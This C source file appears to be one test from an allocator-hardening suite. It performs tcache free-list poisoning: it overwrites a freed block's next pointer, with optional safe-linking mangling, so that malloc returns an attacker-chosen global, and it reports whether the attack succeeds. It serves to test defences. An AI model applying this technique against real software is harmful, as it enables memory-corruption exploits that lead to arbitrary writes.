/* Free-list (tcache) poisoning: after free(b); free(a), the attacker writes a target
 * address into the first word of the freed block a (a use after free or an overflow),
 * where a singly linked free list keeps its next pointer. Two mallocs later the allocator
 * returns the target: a global the attacker wants to overwrite.
 *
 *   mangled  the target encoded as glibc >= 2.32 expects (safe-linking: target ^ (&link >>
 *            12)), which an attacker who knows one heap address (a) can compute (default);
 *   raw      the plain target address, as before safe-linking. */
#include "attack.h"

/* Aligned as allocators require of the blocks they return. */
static _Alignas(64) unsigned char target[MEDIUM_REQUEST + 64];

int main(int argc, char **argv)
{
    size_t request = attack_request(attack_tier(argc, argv));
    bool mangled = strcmp(attack_variant(argc, argv, "mangled"), "raw") != 0;
    char *a = malloc(request);
    void *spacer = malloc(request); /* keeps a and b from coalescing, */
    char *b = malloc(request);
    void *barrier = malloc(request); /* and b from the top chunk: both stay on a free list */
    free(b);
    free(a);
    uintptr_t want = (uintptr_t)target;
    uint64_t link = mangled ? (want ^ ((uintptr_t)a >> 12)) : want;
    poke(launder(a), 0, link); /* fd */
    poke(launder(a), 8, link); /* bk, for doubly linked bins */

    void *first = malloc(request);
    void *second = malloc(request);
    if (overlaps(first, request, target, sizeof target) || overlaps(second, request, target, sizeof target))
        attack_succeeded("malloc returned %p / %p; the target is %p", first, second, (void *)target);
    free(first);
    free(second);
    free(spacer);
    free(barrier);
    attack_failed("the poisoned link was not followed");
}
